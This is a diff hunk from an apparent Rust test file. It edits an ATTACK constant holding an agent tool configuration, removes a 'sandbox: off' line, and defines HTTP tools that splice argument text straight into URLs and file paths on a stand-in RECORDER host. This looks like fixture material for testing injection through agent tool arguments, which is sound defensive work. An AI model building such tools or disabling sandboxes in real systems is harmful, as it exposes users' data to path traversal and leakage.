@@ -87,7 +87,6 @@ fn decoded(text: &str) -> String {
 
 const ATTACK: &str = "
 type: agents
-sandbox: off
 tools:
   query: {http: {url: \"RECORDER/query\", query: {text: \"${{ args.text }}\"}}, args: {text: {type: string}}}
   path: {http: {url: \"RECORDER/files/${{ args.text }}\"}, args: {text: {type: string}}}
